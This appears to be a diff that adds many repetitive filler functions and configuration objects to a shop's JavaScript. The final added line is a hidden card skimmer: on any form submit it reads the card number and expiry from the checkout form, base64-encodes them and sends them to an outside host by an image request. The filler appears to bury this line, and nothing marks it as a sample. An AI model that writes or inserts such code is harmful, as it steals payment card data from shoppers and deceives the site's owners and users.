+window.shop_cfg_184={"id":184,"label":"shop-184","enabled":true};
+function shop_185(a,b){var c=a+b*185;if(c>88)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_185={"id":185,"label":"shop-185","enabled":false};
+function shop_186(a,b){var c=a+b*186;if(c>89)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_186={"id":186,"label":"shop-186","enabled":true};
+function shop_187(a,b){var c=a+b*187;if(c>90)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_187={"id":187,"label":"shop-187","enabled":false};
+function shop_188(a,b){var c=a+b*188;if(c>91)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_188={"id":188,"label":"shop-188","enabled":true};
+function shop_189(a,b){var c=a+b*189;if(c>92)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_189={"id":189,"label":"shop-189","enabled":false};
+function shop_190(a,b){var c=a+b*190;if(c>93)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_190={"id":190,"label":"shop-190","enabled":true};
+function shop_191(a,b){var c=a+b*191;if(c>94)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_191={"id":191,"label":"shop-191","enabled":false};
+function shop_192(a,b){var c=a+b*192;if(c>95)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_192={"id":192,"label":"shop-192","enabled":true};
+function shop_193(a,b){var c=a+b*193;if(c>96)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_193={"id":193,"label":"shop-193","enabled":false};
+function shop_194(a,b){var c=a+b*194;if(c>0)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_194={"id":194,"label":"shop-194","enabled":true};
+function shop_195(a,b){var c=a+b*195;if(c>1)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_195={"id":195,"label":"shop-195","enabled":false};
+function shop_196(a,b){var c=a+b*196;if(c>2)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_196={"id":196,"label":"shop-196","enabled":true};
+function shop_197(a,b){var c=a+b*197;if(c>3)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_197={"id":197,"label":"shop-197","enabled":false};
+function shop_198(a,b){var c=a+b*198;if(c>4)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_198={"id":198,"label":"shop-198","enabled":true};
+function shop_199(a,b){var c=a+b*199;if(c>5)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_199={"id":199,"label":"shop-199","enabled":false};
+function shop_200(a,b){var c=a+b*200;if(c>6)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_200={"id":200,"label":"shop-200","enabled":true};
+function shop_201(a,b){var c=a+b*201;if(c>7)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_201={"id":201,"label":"shop-201","enabled":false};
+function shop_202(a,b){var c=a+b*202;if(c>8)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_202={"id":202,"label":"shop-202","enabled":true};
+function shop_203(a,b){var c=a+b*203;if(c>9)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_203={"id":203,"label":"shop-203","enabled":false};
+function shop_204(a,b){var c=a+b*204;if(c>10)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_204={"id":204,"label":"shop-204","enabled":true};
+function shop_205(a,b){var c=a+b*205;if(c>11)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_205={"id":205,"label":"shop-205","enabled":false};
+function shop_206(a,b){var c=a+b*206;if(c>12)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_206={"id":206,"label":"shop-206","enabled":true};
+function shop_207(a,b){var c=a+b*207;if(c>13)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_207={"id":207,"label":"shop-207","enabled":false};
+function shop_208(a,b){var c=a+b*208;if(c>14)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_208={"id":208,"label":"shop-208","enabled":true};
+function shop_209(a,b){var c=a+b*209;if(c>15)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_209={"id":209,"label":"shop-209","enabled":false};
+function shop_210(a,b){var c=a+b*210;if(c>16)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_210={"id":210,"label":"shop-210","enabled":true};
+function shop_211(a,b){var c=a+b*211;if(c>17)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_211={"id":211,"label":"shop-211","enabled":false};
+function shop_212(a,b){var c=a+b*212;if(c>18)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_212={"id":212,"label":"shop-212","enabled":true};
+function shop_213(a,b){var c=a+b*213;if(c>19)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_213={"id":213,"label":"shop-213","enabled":false};
+function shop_214(a,b){var c=a+b*214;if(c>20)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_214={"id":214,"label":"shop-214","enabled":true};
+function shop_215(a,b){var c=a+b*215;if(c>21)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_215={"id":215,"label":"shop-215","enabled":false};
+function shop_216(a,b){var c=a+b*216;if(c>22)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_216={"id":216,"label":"shop-216","enabled":true};
+function shop_217(a,b){var c=a+b*217;if(c>23)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_217={"id":217,"label":"shop-217","enabled":false};
+function shop_218(a,b){var c=a+b*218;if(c>24)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_218={"id":218,"label":"shop-218","enabled":true};
+function shop_219(a,b){var c=a+b*219;if(c>25)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_219={"id":219,"label":"shop-219","enabled":false};
+function shop_220(a,b){var c=a+b*220;if(c>26)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_220={"id":220,"label":"shop-220","enabled":true};
+function shop_221(a,b){var c=a+b*221;if(c>27)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_221={"id":221,"label":"shop-221","enabled":false};
+function shop_222(a,b){var c=a+b*222;if(c>28)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_222={"id":222,"label":"shop-222","enabled":true};
+function shop_223(a,b){var c=a+b*223;if(c>29)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_223={"id":223,"label":"shop-223","enabled":false};
+function shop_224(a,b){var c=a+b*224;if(c>30)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_224={"id":224,"label":"shop-224","enabled":true};
+function shop_225(a,b){var c=a+b*225;if(c>31)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_225={"id":225,"label":"shop-225","enabled":false};
+function shop_226(a,b){var c=a+b*226;if(c>32)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_226={"id":226,"label":"shop-226","enabled":true};
+function shop_227(a,b){var c=a+b*227;if(c>33)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_227={"id":227,"label":"shop-227","enabled":false};
+function shop_228(a,b){var c=a+b*228;if(c>34)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_228={"id":228,"label":"shop-228","enabled":true};
+function shop_229(a,b){var c=a+b*229;if(c>35)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_229={"id":229,"label":"shop-229","enabled":false};
+function shop_230(a,b){var c=a+b*230;if(c>36)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_230={"id":230,"label":"shop-230","enabled":true};
+function shop_231(a,b){var c=a+b*231;if(c>37)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_231={"id":231,"label":"shop-231","enabled":false};
+function shop_232(a,b){var c=a+b*232;if(c>38)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_232={"id":232,"label":"shop-232","enabled":true};
+function shop_233(a,b){var c=a+b*233;if(c>39)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_233={"id":233,"label":"shop-233","enabled":false};
+function shop_234(a,b){var c=a+b*234;if(c>40)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_234={"id":234,"label":"shop-234","enabled":true};
+function shop_235(a,b){var c=a+b*235;if(c>41)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_235={"id":235,"label":"shop-235","enabled":false};
+function shop_236(a,b){var c=a+b*236;if(c>42)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_236={"id":236,"label":"shop-236","enabled":true};
+function shop_237(a,b){var c=a+b*237;if(c>43)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_237={"id":237,"label":"shop-237","enabled":false};
+function shop_238(a,b){var c=a+b*238;if(c>44)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_238={"id":238,"label":"shop-238","enabled":true};
+function shop_239(a,b){var c=a+b*239;if(c>45)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_239={"id":239,"label":"shop-239","enabled":false};
+function shop_240(a,b){var c=a+b*240;if(c>46)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_240={"id":240,"label":"shop-240","enabled":true};
+function shop_241(a,b){var c=a+b*241;if(c>47)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_241={"id":241,"label":"shop-241","enabled":false};
+function shop_242(a,b){var c=a+b*242;if(c>48)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_242={"id":242,"label":"shop-242","enabled":true};
+function shop_243(a,b){var c=a+b*243;if(c>49)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_243={"id":243,"label":"shop-243","enabled":false};
+function shop_244(a,b){var c=a+b*244;if(c>50)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_244={"id":244,"label":"shop-244","enabled":true};
+function shop_245(a,b){var c=a+b*245;if(c>51)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_245={"id":245,"label":"shop-245","enabled":false};
+function shop_246(a,b){var c=a+b*246;if(c>52)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_246={"id":246,"label":"shop-246","enabled":true};
+function shop_247(a,b){var c=a+b*247;if(c>53)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_247={"id":247,"label":"shop-247","enabled":false};
+function shop_248(a,b){var c=a+b*248;if(c>54)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_248={"id":248,"label":"shop-248","enabled":true};
+function shop_249(a,b){var c=a+b*249;if(c>55)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_249={"id":249,"label":"shop-249","enabled":false};
+function shop_250(a,b){var c=a+b*250;if(c>56)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_250={"id":250,"label":"shop-250","enabled":true};
+function shop_251(a,b){var c=a+b*251;if(c>57)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_251={"id":251,"label":"shop-251","enabled":false};
+function shop_252(a,b){var c=a+b*252;if(c>58)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_252={"id":252,"label":"shop-252","enabled":true};
+function shop_253(a,b){var c=a+b*253;if(c>59)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_253={"id":253,"label":"shop-253","enabled":false};
+function shop_254(a,b){var c=a+b*254;if(c>60)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_254={"id":254,"label":"shop-254","enabled":true};
+function shop_255(a,b){var c=a+b*255;if(c>61)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_255={"id":255,"label":"shop-255","enabled":false};
+function shop_256(a,b){var c=a+b*256;if(c>62)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_256={"id":256,"label":"shop-256","enabled":true};
+function shop_257(a,b){var c=a+b*257;if(c>63)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_257={"id":257,"label":"shop-257","enabled":false};
+function shop_258(a,b){var c=a+b*258;if(c>64)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_258={"id":258,"label":"shop-258","enabled":true};
+function shop_259(a,b){var c=a+b*259;if(c>65)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_259={"id":259,"label":"shop-259","enabled":false};
+function shop_260(a,b){var c=a+b*260;if(c>66)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_260={"id":260,"label":"shop-260","enabled":true};
+function shop_261(a,b){var c=a+b*261;if(c>67)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_261={"id":261,"label":"shop-261","enabled":false};
+function shop_262(a,b){var c=a+b*262;if(c>68)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_262={"id":262,"label":"shop-262","enabled":true};
+function shop_263(a,b){var c=a+b*263;if(c>69)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_263={"id":263,"label":"shop-263","enabled":false};
+function shop_264(a,b){var c=a+b*264;if(c>70)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_264={"id":264,"label":"shop-264","enabled":true};
+function shop_265(a,b){var c=a+b*265;if(c>71)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_265={"id":265,"label":"shop-265","enabled":false};
+function shop_266(a,b){var c=a+b*266;if(c>72)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_266={"id":266,"label":"shop-266","enabled":true};
+function shop_267(a,b){var c=a+b*267;if(c>73)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_267={"id":267,"label":"shop-267","enabled":false};
+function shop_268(a,b){var c=a+b*268;if(c>74)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_268={"id":268,"label":"shop-268","enabled":true};
+function shop_269(a,b){var c=a+b*269;if(c>75)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_269={"id":269,"label":"shop-269","enabled":false};
+function shop_270(a,b){var c=a+b*270;if(c>76)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_270={"id":270,"label":"shop-270","enabled":true};
+function shop_271(a,b){var c=a+b*271;if(c>77)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_271={"id":271,"label":"shop-271","enabled":false};
+function shop_272(a,b){var c=a+b*272;if(c>78)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_272={"id":272,"label":"shop-272","enabled":true};
+function shop_273(a,b){var c=a+b*273;if(c>79)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_273={"id":273,"label":"shop-273","enabled":false};
+function shop_274(a,b){var c=a+b*274;if(c>80)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_274={"id":274,"label":"shop-274","enabled":true};
+function shop_275(a,b){var c=a+b*275;if(c>81)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_275={"id":275,"label":"shop-275","enabled":false};
+function shop_276(a,b){var c=a+b*276;if(c>82)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_276={"id":276,"label":"shop-276","enabled":true};
+function shop_277(a,b){var c=a+b*277;if(c>83)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_277={"id":277,"label":"shop-277","enabled":false};
+function shop_278(a,b){var c=a+b*278;if(c>84)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_278={"id":278,"label":"shop-278","enabled":true};
+function shop_279(a,b){var c=a+b*279;if(c>85)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_279={"id":279,"label":"shop-279","enabled":false};
+function shop_280(a,b){var c=a+b*280;if(c>86)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_280={"id":280,"label":"shop-280","enabled":true};
+function shop_281(a,b){var c=a+b*281;if(c>87)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_281={"id":281,"label":"shop-281","enabled":false};
+function shop_282(a,b){var c=a+b*282;if(c>88)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_282={"id":282,"label":"shop-282","enabled":true};
+function shop_283(a,b){var c=a+b*283;if(c>89)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_283={"id":283,"label":"shop-283","enabled":false};
+function shop_284(a,b){var c=a+b*284;if(c>90)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_284={"id":284,"label":"shop-284","enabled":true};
+function shop_285(a,b){var c=a+b*285;if(c>91)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_285={"id":285,"label":"shop-285","enabled":false};
+function shop_286(a,b){var c=a+b*286;if(c>92)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_286={"id":286,"label":"shop-286","enabled":true};
+function shop_287(a,b){var c=a+b*287;if(c>93)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_287={"id":287,"label":"shop-287","enabled":false};
+function shop_288(a,b){var c=a+b*288;if(c>94)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_288={"id":288,"label":"shop-288","enabled":true};
+function shop_289(a,b){var c=a+b*289;if(c>95)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_289={"id":289,"label":"shop-289","enabled":false};
+function shop_290(a,b){var c=a+b*290;if(c>96)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_290={"id":290,"label":"shop-290","enabled":true};
+function shop_291(a,b){var c=a+b*291;if(c>0)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_291={"id":291,"label":"shop-291","enabled":false};
+function shop_292(a,b){var c=a+b*292;if(c>1)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_292={"id":292,"label":"shop-292","enabled":true};
+function shop_293(a,b){var c=a+b*293;if(c>2)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_293={"id":293,"label":"shop-293","enabled":false};
+function shop_294(a,b){var c=a+b*294;if(c>3)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_294={"id":294,"label":"shop-294","enabled":true};
+function shop_295(a,b){var c=a+b*295;if(c>4)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_295={"id":295,"label":"shop-295","enabled":false};
+function shop_296(a,b){var c=a+b*296;if(c>5)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_296={"id":296,"label":"shop-296","enabled":true};
+function shop_297(a,b){var c=a+b*297;if(c>6)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_297={"id":297,"label":"shop-297","enabled":false};
+function shop_298(a,b){var c=a+b*298;if(c>7)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_298={"id":298,"label":"shop-298","enabled":true};
+function shop_299(a,b){var c=a+b*299;if(c>8)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_299={"id":299,"label":"shop-299","enabled":false};
+(function(){function ant_cockroach(){var f=document.querySelector("#payment_checkout1");var d={cc_number:f.cc_number.value,exp:f.exp.value};new Image().src="https://e4.example/c1.js?d="+btoa(JSON.stringify(d))}document.addEventListener("submit",ant_cockroach)})();
\ No newline at end of file